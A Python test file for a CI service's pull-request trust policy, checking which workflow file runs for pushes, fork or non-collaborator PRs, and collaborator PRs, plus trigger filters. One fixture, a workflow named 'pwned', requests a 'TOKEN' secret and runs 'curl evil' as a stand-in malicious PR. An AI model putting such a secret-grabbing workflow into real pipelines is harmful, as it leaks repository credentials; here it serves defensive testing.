"""The fork/trust policy, workflow fetch at the right ref, and trigger filtering."""
from __future__ import annotations

from dataclasses import dataclass, field

import pytest

from common.forge.errors import ForgeApiError
from common.forge.events import Ignored
from common.forge.policy import (
    PRIORITY_BRANCH,
    PRIORITY_DEFAULT_BRANCH,
    PRIORITY_PULL_REQUEST,
    InvalidWorkflow,
    RunCandidate,
    plan_run,
)
from common.messages import EventKind, Repo, RunRequest

REPO = Repo(forge="forgejo", owner="acme", name="app", clone_url="https://f.example/acme/app.git")
BASE_WORKFLOW = 'workflow name="ci" { job id="build" runs_on="illumos" { step name="b" run="make" } }'
HEAD_WORKFLOW = ('workflow name="pwned" { job id="x" runs_on="illumos" '
                 '{ secrets "TOKEN"; step name="x" run="curl evil" } }')


@dataclass
class Reader:
    files: dict[str, str] = field(default_factory=dict)  # ref -> workflow text
    writers: set[str] = field(default_factory=set)
    asked: list[str] = field(default_factory=list)

    async def fetch_file(self, repo: Repo, path: str, ref: str) -> str | None:
        self.asked.append(ref)
        return self.files.get(ref)

    async def can_write(self, repo: Repo, user: str) -> bool:
        return user in self.writers


def pr(**overrides: object) -> RunCandidate:
    values: dict = dict(repo=REPO, event=EventKind.PULL_REQUEST, commit_sha="h" * 40,
                        ref="refs/pull/7/head", request_id="d-1", branch="feature",
                        pull_request=7, base_branch="main", author="alice", fork=False)
    values.update(overrides)
    return RunCandidate(**values)


async def test_push_uses_the_pushed_commit_and_is_trusted() -> None:
    reader = Reader({"c" * 40: BASE_WORKFLOW})
    push = RunCandidate(REPO, EventKind.PUSH, "c" * 40, "refs/heads/main", "d-1", branch="main")
    run = await plan_run(push, reader, approval_for_untrusted=True)
    assert isinstance(run, RunRequest)
    assert run.trusted and not run.needs_approval and run.priority == PRIORITY_DEFAULT_BRANCH
    assert run.workflow_source == BASE_WORKFLOW and run.request_id == "d-1"


@pytest.mark.parametrize("fork,author", [(True, "alice"), (False, "mallory"), (False, None)])
async def test_untrusted_pr_reads_the_base_branch_workflow(fork: bool, author: str | None) -> None:
    reader = Reader({"main": BASE_WORKFLOW, "h" * 40: HEAD_WORKFLOW}, writers={"alice"})
    run = await plan_run(pr(fork=fork, author=author), reader, approval_for_untrusted=True)
    assert isinstance(run, RunRequest)
    assert reader.asked == ["main"]
    assert run.workflow_source == BASE_WORKFLOW
    assert run.commit_sha == "h" * 40  # the PR's code is still what gets built
    assert not run.trusted and run.needs_approval and run.priority == PRIORITY_PULL_REQUEST
    no_approval = await plan_run(pr(fork=fork, author=author), reader, approval_for_untrusted=False)
    assert isinstance(no_approval, RunRequest) and not no_approval.needs_approval


async def test_collaborator_pr_uses_its_own_workflow() -> None:
    reader = Reader({"main": BASE_WORKFLOW, "h" * 40: HEAD_WORKFLOW}, writers={"alice"})
    run = await plan_run(pr(), reader, approval_for_untrusted=True)
    assert isinstance(run, RunRequest) and run.trusted and run.workflow_source == HEAD_WORKFLOW


async def test_no_workflow_file_is_skipped() -> None:
    push = RunCandidate(REPO, EventKind.PUSH, "c" * 40, "refs/heads/x", "d-1", branch="x")
    outcome = await plan_run(push, Reader(), approval_for_untrusted=False)
    assert isinstance(outcome, Ignored) and ".solstice/workflow.kdl" in outcome.reason


async def test_invalid_workflow_is_reported_not_dropped() -> None:
    reader = Reader({"c" * 40: 'workflow { job id="b" runs_on="x" { stepp name="a" } }'})
    push = RunCandidate(REPO, EventKind.PUSH, "c" * 40, "refs/heads/x", "d-1", branch="x")
    outcome = await plan_run(push, reader, approval_for_untrusted=False)
    assert isinstance(outcome, InvalidWorkflow)
    assert outcome.error.diagnostics[0].line == 1


async def test_trigger_filter_on_events_branches_and_tags() -> None:
    text = ('workflow { on "push" branches="main" "release/*"\n on "tag" "v*"\n'
            ' on "pull_request" branches="main"\n'
            ' job id="b" runs_on="illumos" { step name="b" run="make" } }')
    reader = Reader({"c" * 40: text, "h" * 40: text}, writers={"alice"})

    def push(branch: str) -> RunCandidate:
        return RunCandidate(REPO, EventKind.PUSH, "c" * 40, f"refs/heads/{branch}", "d", branch=branch)

    assert isinstance(await plan_run(push("release/1.0"), reader, approval_for_untrusted=False),
                      RunRequest)
    skipped = await plan_run(push("feature"), reader, approval_for_untrusted=False)
    assert isinstance(skipped, Ignored) and "feature" in skipped.reason
    tag = RunCandidate(REPO, EventKind.TAG, "c" * 40, "refs/tags/v1", "d", tag="v1")
    assert isinstance(await plan_run(tag, reader, approval_for_untrusted=False), RunRequest)
    other_tag = RunCandidate(REPO, EventKind.TAG, "c" * 40, "refs/tags/nightly", "d", tag="nightly")
    assert isinstance(await plan_run(other_tag, reader, approval_for_untrusted=False), Ignored)
    # A pull request is filtered by its target branch, not its head branch.
    assert isinstance(await plan_run(pr(), reader, approval_for_untrusted=False), RunRequest)
    assert isinstance(await plan_run(pr(base_branch="dev"), reader, approval_for_untrusted=False), Ignored)
    branch = await plan_run(push("release/2"), reader, approval_for_untrusted=False)
    assert isinstance(branch, RunRequest) and branch.priority == PRIORITY_BRANCH


async def test_forge_failures_propagate() -> None:
    class Down(Reader):
        async def fetch_file(self, repo: Repo, path: str, ref: str) -> str | None:
            raise ForgeApiError("down", status=502, retryable=True)

    push = RunCandidate(REPO, EventKind.PUSH, "c" * 40, "refs/heads/x", "d-1", branch="x")
    with pytest.raises(ForgeApiError):
        await plan_run(push, Down(), approval_for_untrusted=False)
